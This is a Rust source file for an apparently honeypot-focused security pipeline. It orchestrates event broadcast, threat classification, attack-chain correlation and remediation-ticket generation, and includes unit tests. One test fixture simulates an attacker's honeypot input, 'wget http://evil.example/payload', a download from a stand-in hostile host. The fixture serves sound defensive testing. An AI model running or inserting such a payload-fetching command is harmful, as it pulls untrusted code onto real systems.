//! The enrichment orchestrator state machine.
//!
//! One run drives an ingested batch through broadcast, classification,
//! correlation, and conditional ticket generation, publishing every
//! intermediate result on the bus. Whatever happens downstream, exactly one
//! terminal completion event is emitted per run.

use std::fmt;
use std::sync::Arc;

use serde::Serialize;
use serde_json::json;
use tracing::{error, info, warn};
use uuid::Uuid;

use decoywatch_bus::EventBus;
use decoywatch_core::event::now_hms;
use decoywatch_core::{Event, RunStatus};

use crate::registry::RunRegistry;
use crate::traits::{CapabilityError, Classifier, Correlator, TicketGenerator, TicketSubmitter};
use crate::types::ClassificationResult;

// ── Run states ──────────────────────────────────────────────────────

/// Lifecycle of one enrichment run. `Received` and `Broadcast` happen
/// synchronously inside [`Orchestrator::ingest`]; everything after runs in
/// the detached task.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum RunState {
    Received,
    Broadcast,
    Classifying,
    Correlating,
    TicketDecision,
    TicketGeneration,
    Completed,
    Failed,
}

impl fmt::Display for RunState {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let name = match self {
            RunState::Received => "received",
            RunState::Broadcast => "broadcast",
            RunState::Classifying => "classifying",
            RunState::Correlating => "correlating",
            RunState::TicketDecision => "ticket_decision",
            RunState::TicketGeneration => "ticket_generation",
            RunState::Completed => "completed",
            RunState::Failed => "failed",
        };
        write!(f, "{}", name)
    }
}

// ── Wire helpers ────────────────────────────────────────────────────

/// Serialize a value and tag it with a `type` discriminator for
/// subscribers, unless the payload already carries one.
fn tagged<T: Serialize>(tag: &'static str, value: &T) -> Option<serde_json::Value> {
    match serde_json::to_value(value) {
        Ok(mut v) => {
            if let serde_json::Value::Object(map) = &mut v {
                map.entry("type").or_insert_with(|| json!(tag));
            }
            Some(v)
        }
        Err(e) => {
            warn!(tag, error = %e, "dropping unserializable enrichment payload");
            None
        }
    }
}

// ── Orchestrator ────────────────────────────────────────────────────

/// Receipt returned to the ingest caller after the synchronous broadcast
/// phase; the enrichment run continues in the background.
#[derive(Debug, Clone, Serialize)]
pub struct IngestReceipt {
    pub run_id: Uuid,
    /// Raw events broadcast from this batch.
    pub items: usize,
    /// Subscribers registered at broadcast time.
    pub subscribers: usize,
}

/// Everything a detached run needs; cheap to clone into the task.
#[derive(Clone)]
struct Pipeline {
    bus: EventBus,
    classifier: Arc<dyn Classifier>,
    correlator: Arc<dyn Correlator>,
    generator: Arc<dyn TicketGenerator>,
    submitter: Option<Arc<dyn TicketSubmitter>>,
}

/// Drives event batches through the enrichment pipeline.
///
/// Capabilities are injected; runs are independent, never retried, and
/// tracked in a [`RunRegistry`] for graceful drain on shutdown.
pub struct Orchestrator {
    pipeline: Pipeline,
    runs: Arc<RunRegistry>,
}

impl Orchestrator {
    pub fn new(
        bus: EventBus,
        classifier: Arc<dyn Classifier>,
        correlator: Arc<dyn Correlator>,
        generator: Arc<dyn TicketGenerator>,
    ) -> Self {
        Self {
            pipeline: Pipeline {
                bus,
                classifier,
                correlator,
                generator,
                submitter: None,
            },
            runs: Arc::new(RunRegistry::new()),
        }
    }

    /// Configure the optional ticket submission capability.
    pub fn with_submitter(mut self, submitter: Arc<dyn TicketSubmitter>) -> Self {
        self.pipeline.submitter = Some(submitter);
        self
    }

    /// Registry of in-flight runs, for stats and shutdown drain.
    pub fn registry(&self) -> Arc<RunRegistry> {
        Arc::clone(&self.runs)
    }

    /// Accept a batch: broadcast every raw event immediately, then hand the
    /// rest of the pipeline to a detached background task.
    ///
    /// Returns once broadcast is done; progress of the background run is
    /// only observable through bus subscriptions.
    pub fn ingest(&self, mut batch: Vec<Event>) -> IngestReceipt {
        let run_id = Uuid::new_v4();
        let subscribers = self.pipeline.bus.subscriber_count();
        info!(%run_id, items = batch.len(), subscribers, state = %RunState::Received, "batch received");

        for event in &mut batch {
            event.stamp_timestamp();
            self.pipeline.bus.emit(event);
        }
        info!(%run_id, state = %RunState::Broadcast, "raw events broadcast");

        let items = batch.len();
        let pipeline = self.pipeline.clone();
        let handle = tokio::spawn(async move {
            pipeline.run(run_id, batch).await;
        });
        self.runs.register(run_id, handle);

        IngestReceipt {
            run_id,
            items,
            subscribers,
        }
    }
}

impl Pipeline {
    /// Execute the background stages and emit the single terminal
    /// completion event, success or failure.
    async fn run(self, run_id: Uuid, batch: Vec<Event>) {
        let items = batch.len();
        let completion = match self.advance(run_id, &batch).await {
            Ok(()) => {
                info!(%run_id, items, state = %RunState::Completed, "enrichment run completed");
                json!({
                    "type": "enrichment_complete",
                    "run_id": run_id,
                    "status": RunStatus::Success,
                    "items_processed": items,
                    "timestamp": now_hms(),
                })
            }
            Err(e) => {
                error!(%run_id, error = %e, state = %RunState::Failed, "enrichment run failed");
                json!({
                    "type": "enrichment_complete",
                    "run_id": run_id,
                    "status": RunStatus::Failed,
                    "error": e.to_string(),
                    "timestamp": now_hms(),
                })
            }
        };
        self.bus.emit(&completion);
    }

    /// Classifying → Correlating → TicketDecision → (TicketGeneration).
    /// The first capability error aborts the remaining stages.
    async fn advance(&self, run_id: Uuid, batch: &[Event]) -> Result<(), CapabilityError> {
        info!(%run_id, state = %RunState::Classifying, "run state");
        let results = self.classify_stage(run_id, batch).await?;

        info!(%run_id, state = %RunState::Correlating, "run state");
        self.correlate_stage(run_id, batch).await?;

        info!(%run_id, state = %RunState::TicketDecision, "run state");
        let Some(candidate) = results.iter().find(|r| r.severity.is_ticketable()) else {
            info!(%run_id, "no HIGH/CRITICAL results, skipping ticket generation");
            return Ok(());
        };

        info!(%run_id, state = %RunState::TicketGeneration, severity = %candidate.severity, "run state");
        self.ticket_stage(run_id, candidate, batch).await
    }

    /// Emit each classification result individually as it is walked, so
    /// subscribers see partial progress.
    async fn classify_stage(
        &self,
        run_id: Uuid,
        batch: &[Event],
    ) -> Result<Vec<ClassificationResult>, CapabilityError> {
        let results = self.classifier.classify(batch).await?.unwrap_or_default();
        if results.is_empty() {
            warn!(%run_id, "classifier returned no results");
            return Ok(results);
        }

        let mut emitted = Vec::with_capacity(results.len());
        for mut result in results {
            result.timestamp = Some(now_hms());
            if let Some(payload) = tagged("risk_score", &result) {
                self.bus.emit(&payload);
            }
            emitted.push(result);
        }
        info!(%run_id, count = emitted.len(), "classification results emitted");
        Ok(emitted)
    }

    async fn correlate_stage(&self, run_id: Uuid, batch: &[Event]) -> Result<(), CapabilityError> {
        let Some(mut chain) = self.correlator.correlate(batch).await? else {
            return Ok(());
        };
        if chain.timestamp.is_none() {
            chain.timestamp = Some(now_hms());
        }
        if chain.detected_at.is_none() {
            chain.detected_at = Some(now_hms());
        }
        if let Some(payload) = tagged("attack_chain", &chain) {
            self.bus.emit(&payload);
        }
        info!(%run_id, chain_id = %chain.chain_id, stages = chain.stages.len(), "attack chain emitted");
        Ok(())
    }

    /// Generate a ticket for the qualifying result, enrich it, and submit
    /// it. A submission failure falls back to bus emission so the ticket is
    /// never silently dropped; only generation errors fail the run.
    async fn ticket_stage(
        &self,
        run_id: Uuid,
        candidate: &ClassificationResult,
        batch: &[Event],
    ) -> Result<(), CapabilityError> {
        let Some(mut ticket) = self.generator.generate(candidate).await? else {
            warn!(%run_id, "ticket generator produced nothing");
            return Ok(());
        };

        ticket.ticket_id = Some(format!("TCK-{}", Uuid::new_v4().simple()));
        ticket.created_at = Some(now_hms());
        ticket.source_address = batch.first().and_then(|e| e.source_address.clone());

        match &self.submitter {
            Some(submitter) => match submitter.submit(&ticket).await {
                Ok(true) => {
                    info!(%run_id, ticket_id = ?ticket.ticket_id, "ticket submitted");
                }
                Ok(false) => {
                    warn!(%run_id, "submitter declined ticket, emitting on bus");
                    self.emit_ticket(&ticket);
                }
                Err(e) => {
                    warn!(%run_id, error = %e, "ticket submission failed, emitting on bus");
                    self.emit_ticket(&ticket);
                }
            },
            None => self.emit_ticket(&ticket),
        }
        Ok(())
    }

    fn emit_ticket(&self, ticket: &crate::types::Ticket) {
        if let Some(payload) = tagged("agent_ticket", ticket) {
            self.bus.emit(&payload);
        }
    }
}

// ── Tests ───────────────────────────────────────────────────────────

#[cfg(test)]
mod tests {
    use super::*;
    use std::sync::atomic::{AtomicUsize, Ordering};
    use std::sync::Mutex;
    use std::time::Duration;

    use async_trait::async_trait;

    use decoywatch_bus::Subscriber;
    use decoywatch_core::Severity;

    use crate::types::{AttackChain, ChainStage, Ticket};

    fn event(json: serde_json::Value) -> Event {
        serde_json::from_value(json).unwrap()
    }

    fn result(severity: Severity) -> ClassificationResult {
        ClassificationResult {
            event_kind: Some("cowrie.login.failed".to_string()),
            score: 50.0,
            severity,
            summary: "test summary".to_string(),
            confidence: None,
            attacker_ip: None,
            mitre_attack: Vec::new(),
            mitigations: Vec::new(),
            timestamp: None,
        }
    }

    fn chain() -> AttackChain {
        AttackChain {
            chain_id: "AC-1".to_string(),
            attacker_ip: None,
            technique: "Recon then entry".to_string(),
            stages: vec![ChainStage {
                name: "Initial Access".to_string(),
                desc: "Password guessing".to_string(),
            }],
            detected_at: None,
            timestamp: None,
        }
    }

    fn ticket() -> Ticket {
        Ticket {
            title: "Harden SSH".to_string(),
            description: "Disable password auth".to_string(),
            priority: Some("HIGH".to_string()),
            affected_files: vec!["sshd_config".to_string()],
            suggested_patch: "-PasswordAuthentication yes\n+PasswordAuthentication no".to_string(),
            patch_instructions: "Apply and restart sshd".to_string(),
            ticket_id: None,
            created_at: None,
            source_address: None,
        }
    }

    // ── Mock capabilities ───────────────────────────────────────────

    struct MockClassifier {
        results: Option<Vec<ClassificationResult>>,
        fail: bool,
        calls: AtomicUsize,
    }

    impl MockClassifier {
        fn returning(results: Vec<ClassificationResult>) -> Self {
            Self {
                results: Some(results),
                fail: false,
                calls: AtomicUsize::new(0),
            }
        }

        fn empty() -> Self {
            Self {
                results: None,
                fail: false,
                calls: AtomicUsize::new(0),
            }
        }

        fn failing() -> Self {
            Self {
                results: None,
                fail: true,
                calls: AtomicUsize::new(0),
            }
        }
    }

    #[async_trait]
    impl Classifier for MockClassifier {
        async fn classify(
            &self,
            _batch: &[Event],
        ) -> Result<Option<Vec<ClassificationResult>>, CapabilityError> {
            self.calls.fetch_add(1, Ordering::SeqCst);
            if self.fail {
                return Err(CapabilityError::Upstream("classifier exploded".to_string()));
            }
            Ok(self.results.clone())
        }
    }

    struct MockCorrelator {
        chain: Option<AttackChain>,
        fail: bool,
        calls: AtomicUsize,
    }

    impl MockCorrelator {
        fn returning(chain: Option<AttackChain>) -> Self {
            Self {
                chain,
                fail: false,
                calls: AtomicUsize::new(0),
            }
        }

        fn failing() -> Self {
            Self {
                chain: None,
                fail: true,
                calls: AtomicUsize::new(0),
            }
        }
    }

    #[async_trait]
    impl Correlator for MockCorrelator {
        async fn correlate(
            &self,
            _batch: &[Event],
        ) -> Result<Option<AttackChain>, CapabilityError> {
            self.calls.fetch_add(1, Ordering::SeqCst);
            if self.fail {
                return Err(CapabilityError::Upstream("correlator exploded".to_string()));
            }
            Ok(self.chain.clone())
        }
    }

    struct MockGenerator {
        calls: AtomicUsize,
        seen_severity: Mutex<Option<Severity>>,
    }

    impl MockGenerator {
        fn new() -> Self {
            Self {
                calls: AtomicUsize::new(0),
                seen_severity: Mutex::new(None),
            }
        }
    }

    #[async_trait]
    impl TicketGenerator for MockGenerator {
        async fn generate(
            &self,
            result: &ClassificationResult,
        ) -> Result<Option<Ticket>, CapabilityError> {
            self.calls.fetch_add(1, Ordering::SeqCst);
            *self.seen_severity.lock().unwrap() = Some(result.severity);
            Ok(Some(ticket()))
        }
    }

    struct MockSubmitter {
        accept: bool,
        fail: bool,
        calls: AtomicUsize,
    }

    #[async_trait]
    impl TicketSubmitter for MockSubmitter {
        async fn submit(&self, _ticket: &Ticket) -> Result<bool, CapabilityError> {
            self.calls.fetch_add(1, Ordering::SeqCst);
            if self.fail {
                return Err(CapabilityError::Upstream("submission exploded".to_string()));
            }
            Ok(self.accept)
        }
    }

    // ── Helpers ─────────────────────────────────────────────────────

    async fn collect_run(sub: &mut Subscriber) -> Vec<serde_json::Value> {
        let mut messages = Vec::new();
        loop {
            let msg = tokio::time::timeout(Duration::from_secs(2), sub.recv())
                .await
                .expect("run did not emit a completion event in time")
                .expect("bus closed unexpectedly");
            let value: serde_json::Value = serde_json::from_str(&msg).unwrap();
            let done = value.get("type").and_then(|t| t.as_str()) == Some("enrichment_complete");
            messages.push(value);
            if done {
                break;
            }
        }
        messages
    }

    fn count_type(messages: &[serde_json::Value], tag: &str) -> usize {
        messages
            .iter()
            .filter(|m| m.get("type").and_then(|t| t.as_str()) == Some(tag))
            .count()
    }

    fn batch_of_two() -> Vec<Event> {
        vec![
            event(serde_json::json!({
                "event_kind": "cowrie.login.failed",
                "source_address": "10.0.0.1",
            })),
            event(serde_json::json!({
                "event_kind": "cowrie.command.input",
                "input": "wget http://evil.example/payload",
            })),
        ]
    }

    // ── Scenarios ───────────────────────────────────────────────────

    #[tokio::test]
    async fn full_success_path_emits_everything_once() {
        let bus = EventBus::new();
        let generator = Arc::new(MockGenerator::new());
        let orchestrator = Orchestrator::new(
            bus.clone(),
            Arc::new(MockClassifier::returning(vec![
                result(Severity::Low),
                result(Severity::Critical),
            ])),
            Arc::new(MockCorrelator::returning(Some(chain()))),
            generator.clone(),
        );

        let mut sub = bus.subscribe();
        let receipt = orchestrator.ingest(batch_of_two());
        assert_eq!(receipt.items, 2);
        assert_eq!(receipt.subscribers, 1);

        let messages = collect_run(&mut sub).await;
        // 2 raw + 2 risk scores + 1 chain + 1 ticket + 1 completion.
        assert_eq!(messages.len(), 7);
        assert_eq!(count_type(&messages, "risk_score"), 2);
        assert_eq!(count_type(&messages, "attack_chain"), 1);
        assert_eq!(count_type(&messages, "agent_ticket"), 1);
        assert_eq!(count_type(&messages, "enrichment_complete"), 1);

        let completion = messages.last().unwrap();
        assert_eq!(completion["status"], "success");
        assert_eq!(completion["items_processed"], 2);

        // The CRITICAL result, not the LOW one, drove ticket generation.
        assert_eq!(generator.calls.load(Ordering::SeqCst), 1);
        assert_eq!(
            *generator.seen_severity.lock().unwrap(),
            Some(Severity::Critical)
        );
    }

    #[tokio::test]
    async fn raw_events_are_timestamped_and_broadcast_synchronously() {
        let bus = EventBus::new();
        let orchestrator = Orchestrator::new(
            bus.clone(),
            Arc::new(MockClassifier::empty()),
            Arc::new(MockCorrelator::returning(None)),
            Arc::new(MockGenerator::new()),
        );

        let mut sub = bus.subscribe();
        orchestrator.ingest(batch_of_two());

        // Both raw events are already queued when ingest returns.
        for _ in 0..2 {
            let raw: serde_json::Value =
                serde_json::from_str(&sub.recv().await.unwrap()).unwrap();
            assert!(raw.get("timestamp").is_some());
            assert!(raw.get("type").is_none());
        }
    }

    #[tokio::test]
    async fn classifier_failure_still_emits_exactly_one_completion() {
        let bus = EventBus::new();
        let correlator = Arc::new(MockCorrelator::returning(Some(chain())));
        let generator = Arc::new(MockGenerator::new());
        let orchestrator = Orchestrator::new(
            bus.clone(),
            Arc::new(MockClassifier::failing()),
            correlator.clone(),
            generator.clone(),
        );

        let mut sub = bus.subscribe();
        orchestrator.ingest(batch_of_two());
        let messages = collect_run(&mut sub).await;

        assert_eq!(count_type(&messages, "enrichment_complete"), 1);
        let completion = messages.last().unwrap();
        assert_eq!(completion["status"], "failed");
        assert!(completion["error"]
            .as_str()
            .unwrap()
            .contains("classifier exploded"));

        // Failure aborted the remaining stages.
        assert_eq!(correlator.calls.load(Ordering::SeqCst), 0);
        assert_eq!(generator.calls.load(Ordering::SeqCst), 0);
    }

    #[tokio::test]
    async fn correlator_failure_skips_ticketing() {
        let bus = EventBus::new();
        let generator = Arc::new(MockGenerator::new());
        let orchestrator = Orchestrator::new(
            bus.clone(),
            Arc::new(MockClassifier::returning(vec![result(Severity::Critical)])),
            Arc::new(MockCorrelator::failing()),
            generator.clone(),
        );

        let mut sub = bus.subscribe();
        orchestrator.ingest(batch_of_two());
        let messages = collect_run(&mut sub).await;

        let completion = messages.last().unwrap();
        assert_eq!(completion["status"], "failed");
        assert!(!completion["error"].as_str().unwrap().is_empty());
        assert_eq!(generator.calls.load(Ordering::SeqCst), 0);
        assert_eq!(count_type(&messages, "agent_ticket"), 0);
    }

    #[tokio::test]
    async fn no_ticketable_severity_skips_generation_and_succeeds() {
        let bus = EventBus::new();
        let generator = Arc::new(MockGenerator::new());
        let orchestrator = Orchestrator::new(
            bus.clone(),
            Arc::new(MockClassifier::returning(vec![
                result(Severity::Low),
                result(Severity::Medium),
            ])),
            Arc::new(MockCorrelator::returning(None)),
            generator.clone(),
        );

        let mut sub = bus.subscribe();
        orchestrator.ingest(batch_of_two());
        let messages = collect_run(&mut sub).await;

        assert_eq!(generator.calls.load(Ordering::SeqCst), 0);
        assert_eq!(count_type(&messages, "agent_ticket"), 0);
        assert_eq!(messages.last().unwrap()["status"], "success");
    }

    #[tokio::test]
    async fn empty_classification_is_not_an_error() {
        let bus = EventBus::new();
        let correlator = Arc::new(MockCorrelator::returning(Some(chain())));
        let orchestrator = Orchestrator::new(
            bus.clone(),
            Arc::new(MockClassifier::empty()),
            correlator.clone(),
            Arc::new(MockGenerator::new()),
        );

        let mut sub = bus.subscribe();
        orchestrator.ingest(batch_of_two());
        let messages = collect_run(&mut sub).await;

        assert_eq!(count_type(&messages, "risk_score"), 0);
        assert_eq!(count_type(&messages, "attack_chain"), 1);
        assert_eq!(messages.last().unwrap()["status"], "success");
        assert_eq!(correlator.calls.load(Ordering::SeqCst), 1);
    }

    #[tokio::test]
    async fn attack_chain_is_stamped_when_fields_absent() {
        let bus = EventBus::new();
        let orchestrator = Orchestrator::new(
            bus.clone(),
            Arc::new(MockClassifier::empty()),
            Arc::new(MockCorrelator::returning(Some(chain()))),
            Arc::new(MockGenerator::new()),
        );

        let mut sub = bus.subscribe();
        orchestrator.ingest(batch_of_two());
        let messages = collect_run(&mut sub).await;

        let chain_msg = messages
            .iter()
            .find(|m| m["type"] == "attack_chain")
            .unwrap();
        assert!(chain_msg.get("timestamp").is_some());
        assert!(chain_msg.get("detected_at").is_some());
    }

    #[tokio::test]
    async fn submission_failure_falls_back_to_bus_emission() {
        let bus = EventBus::new();
        let submitter = Arc::new(MockSubmitter {
            accept: false,
            fail: true,
            calls: AtomicUsize::new(0),
        });
        let orchestrator = Orchestrator::new(
            bus.clone(),
            Arc::new(MockClassifier::returning(vec![result(Severity::High)])),
            Arc::new(MockCorrelator::returning(None)),
            Arc::new(MockGenerator::new()),
        )
        .with_submitter(submitter.clone());

        let mut sub = bus.subscribe();
        orchestrator.ingest(batch_of_two());
        let messages = collect_run(&mut sub).await;

        assert_eq!(submitter.calls.load(Ordering::SeqCst), 1);
        assert_eq!(count_type(&messages, "agent_ticket"), 1);
        // A submission failure does not fail the run.
        assert_eq!(messages.last().unwrap()["status"], "success");
    }

    #[tokio::test]
    async fn accepted_submission_keeps_ticket_off_the_bus() {
        let bus = EventBus::new();
        let submitter = Arc::new(MockSubmitter {
            accept: true,
            fail: false,
            calls: AtomicUsize::new(0),
        });
        let orchestrator = Orchestrator::new(
            bus.clone(),
            Arc::new(MockClassifier::returning(vec![result(Severity::High)])),
            Arc::new(MockCorrelator::returning(None)),
            Arc::new(MockGenerator::new()),
        )
        .with_submitter(submitter.clone());

        let mut sub = bus.subscribe();
        orchestrator.ingest(batch_of_two());
        let messages = collect_run(&mut sub).await;

        assert_eq!(submitter.calls.load(Ordering::SeqCst), 1);
        assert_eq!(count_type(&messages, "agent_ticket"), 0);
        assert_eq!(messages.last().unwrap()["status"], "success");
    }

    #[tokio::test]
    async fn emitted_ticket_is_enriched_with_id_stamp_and_source() {
        let bus = EventBus::new();
        let orchestrator = Orchestrator::new(
            bus.clone(),
            Arc::new(MockClassifier::returning(vec![result(Severity::Critical)])),
            Arc::new(MockCorrelator::returning(None)),
            Arc::new(MockGenerator::new()),
        );

        let mut sub = bus.subscribe();
        orchestrator.ingest(batch_of_two());
        let messages = collect_run(&mut sub).await;

        let ticket_msg = messages
            .iter()
            .find(|m| m["type"] == "agent_ticket")
            .unwrap();
        assert!(ticket_msg["ticket_id"].as_str().unwrap().starts_with("TCK-"));
        assert!(ticket_msg.get("created_at").is_some());
        assert_eq!(ticket_msg["source_address"], "10.0.0.1");
    }

    #[tokio::test]
    async fn drain_waits_for_in_flight_runs() {
        let bus = EventBus::new();
        let orchestrator = Orchestrator::new(
            bus.clone(),
            Arc::new(MockClassifier::empty()),
            Arc::new(MockCorrelator::returning(None)),
            Arc::new(MockGenerator::new()),
        );

        orchestrator.ingest(batch_of_two());
        orchestrator.registry().drain().await;
        assert_eq!(orchestrator.registry().in_flight(), 0);
    }
}
